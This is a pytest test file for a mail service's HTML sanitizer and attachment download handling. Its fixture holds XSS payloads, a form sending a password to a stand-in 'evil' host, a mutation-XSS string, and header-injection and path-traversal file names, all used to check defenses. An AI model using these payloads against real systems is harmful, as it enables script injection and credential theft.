import re

import pytest

from channels.message import Attachment, Kind
from router.conversation import Conversation
from router.desk import letters
from router.desk.failures import TooLarge
from tests.unit.desk.office import Client, Office

EVIL = b"""<html><head><style>@import url(http://evil/x.css)</style><title>t</title></head>
<body onload="alert(1)" style="background:url(http://evil/a.png)">
<script>alert(2)</script><img src="http://evil/pixel.png" onerror="alert(3)"><svg/onload=alert(4)></svg>
<a href="javascript:alert(5)">click</a><a href="https://example.com/?a=1&b=2" onclick="alert(6)">fine</a>
<form action="http://evil/steal"><input name="password"><button>go</button></form>
<iframe src="http://evil/"></iframe><object data="http://evil/"></object><embed src="http://evil/">
<base href="http://evil/"><meta http-equiv="refresh" content="0;url=http://evil/"><link rel=stylesheet href=http://evil/>
<table background="http://evil/b.png"><tr><td style="x">cell</td></tr></table><video src=http://evil/v></video>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">"""


async def with_files(office: Office, **fields: str) -> Conversation:
    """Let a mail with a file, an HTML body and raw bytes come in."""
    blob = await office.blobs.put(b"<script>alert(1)</script>")
    file = Attachment(
        name=fields.get("name", "a.html"), content_type=fields.get("kind", "text/html"), size=25, blob=blob
    )
    html, raw = await office.blobs.put(EVIL), await office.blobs.put(b"From: x\r\n\r\nbody")
    return await office.mail(attachments=(file,), html=html, raw=raw)


async def test_nothing_that_acts_or_calls_home_is_left_in_a_mail() -> None:
    """Scripts, styles, images, forms, frames and odd links are gone; text, tables and links stay."""
    html = await letters.harmless(EVIL)
    for bad in (
        "script",
        "onload",
        "onerror",
        "onclick",
        "evil",
        "javascript:",
        "style",
        "<img",
        "<form",
        "<input",
        "<svg",
    ):
        assert bad not in html.lower().replace("--&gt;&lt;img", ""), bad
    (link,) = re.findall(r"<a ([^>]*)>fine</a>", html)
    for part in (
        'href="https://example.com/?a=1&amp;b=2"',
        'rel="noopener noreferrer nofollow"',
        'target="_blank"',
    ):
        assert part in link
    assert "<td>cell</td>" in html


async def test_huge_html_is_refused() -> None:
    """The text can still be read, and the message downloaded."""
    with pytest.raises(TooLarge, match="download"):
        await letters.harmless(b"x" * (letters.MOST + 1))


async def test_html_is_served_as_json_only(office: Office, maria: Client) -> None:
    """The cleaned HTML never comes as a page of our origin."""
    conversation = await with_files(office)
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/html")
    assert response.content_type == "application/json"
    assert "alert" not in (await response.json())["html"]


@pytest.mark.parametrize(
    ("kind", "served"),
    [
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("text/javascript", "application/octet-stream"),
        ("not a type\r\nX: y", "application/octet-stream"),
        ("image/png", "image/png"),
        ("Application/PDF", "application/pdf"),
    ],
)
async def test_files_are_downloads_that_can_do_nothing(
    office: Office, maria: Client, kind: str, served: str
) -> None:
    """Whatever it calls itself, a file is an attachment, not sniffed, in a sandbox."""
    conversation = await with_files(office, kind=kind)
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/files/0")
    assert response.status == 200
    assert response.headers["Content-Type"] == served
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ('a".html', "a_.html"),
        ("a\r\nSet-Cookie: x=y", "a__Set-Cookie_ x_y"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ("løn.pdf", "l_n.pdf"),
        ("", "file"),
        ("x" * 500, "x" * 150),
    ],
)
async def test_file_names_cannot_break_out(office: Office, maria: Client, name: str, plain: str) -> None:
    """Quotes, line breaks and paths in a name stay inside the header."""
    conversation = await with_files(office, name=name)
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/files/0")
    assert f'filename="{plain}"' in response.headers["Content-Disposition"]
    assert "Set-Cookie" not in response.headers


async def test_the_original_can_be_downloaded(office: Office, maria: Client) -> None:
    """The raw bytes come back as they arrived."""
    conversation = await with_files(office)
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/raw")
    assert await response.read() == b"From: x\r\n\r\nbody"
    assert 'filename="message-1.eml"' in response.headers["Content-Disposition"]


async def test_a_large_file_comes_whole(office: Office, maria: Client) -> None:
    """Megabytes come back as they were."""
    data = bytes(range(256)) * 12_000
    file = Attachment(name="a.bin", content_type="x/y", size=len(data), blob=await office.blobs.put(data))
    conversation = await office.mail(attachments=(file,))
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/files/0")
    assert await response.read() == data


async def test_an_unreadable_message_offers_its_bytes(office: Office, maria: Client) -> None:
    """What could not be parsed shows the reason, and the original to download."""
    raw = await office.blobs.put(b"\x00\x01")
    conversation = await office.mail(kind=Kind.UNREADABLE, raw=raw, reason="It is not MIME.", text="")
    (line,) = [
        one
        for one in (await maria.get(f"/conversations/{conversation.id}/transcript"))["lines"]
        if one["kind"] == "unreadable"
    ]
    assert line["reason"] == "It is not MIME."
    assert await (await maria.ask("GET", line["raw"])).read() == b"\x00\x01"


@pytest.mark.parametrize(
    "path", ["lines/1/files/1", "lines/9/raw", "lines/0/raw", "lines/1/raw", "lines/1/html"]
)
async def test_what_a_line_does_not_have_is_not_found(office: Office, maria: Client, path: str) -> None:
    """A plain mail has no file, no HTML and no raw bytes."""
    conversation = await office.mail()
    response = await maria.ask("GET", f"/conversations/{conversation.id}/{path}")
    assert response.status == 404


async def test_lost_bytes_are_told(office: Office, maria: Client) -> None:
    """A blob that is gone is a clear 404, not a failure."""
    conversation = await office.mail(raw="0" * 64)
    response = await maria.ask("GET", f"/conversations/{conversation.id}/lines/1/raw")
    assert response.status == 404
    assert "backup" in (await response.json())["detail"]
